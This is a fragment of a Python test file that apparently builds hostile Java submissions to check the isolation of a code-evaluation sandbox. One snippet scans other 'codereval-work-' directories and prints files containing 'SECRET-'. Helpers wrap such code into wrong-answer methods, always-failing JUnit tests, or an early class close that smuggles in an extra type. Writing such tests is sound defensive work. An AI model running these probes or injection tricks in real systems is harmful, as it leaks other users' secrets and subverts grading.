     "\"codereval-work-\") && java.nio.file.Files.isRegularFile(p)).forEach(p -> { try { "
     "String text = java.nio.file.Files.readString(p); "
     "if (text.contains(\"SECRET-\")) System.out.println(p + \": \" + text); "
     "} catch (Exception e) {} }); }"),
]


def _java_in_class(head: str, snippet: str) -> str:
    if snippet.startswith(MEMBER):
        return f"{head}    static void hostile() {{}}\n    {snippet[len(MEMBER):]}\n"
    if snippet.startswith(TOP):
        # The class is closed early for a type of its own beside it; the file's own closing
        # brace then closes an empty class.
        return (f"{head}    static void hostile() {{}}\n}}\n{snippet[len(TOP):]}\n"
                "class CoderevalHostileTail {\n")
    return (f"{head}    static void hostile() {{\n        try {{ {snippet} }} "
            "catch (Throwable e) {}\n    }\n")


def java_method_code(header: str, wrong: str) -> Callable[[str], str]:
    """Programs as the task's method ``header`` whose answer is ``wrong`` (a return
    statement), the hostile part run first."""
    def wrap(snippet: str) -> str:
        return _java_in_class(f"    {header} {{\n        hostile();\n        {wrong}\n    }}\n",
                              snippet)
    return wrap


def java_test_method_code(snippet: str) -> str:
    """A program as a generated JUnit test method that fails (it always throws)."""
    head = ("    @Test\n    public void testHostile() {\n        hostile();\n"
            "        throw new java.lang.AssertionError(\"a failing test\");\n    }\n")
    return _java_in_class(head, snippet)
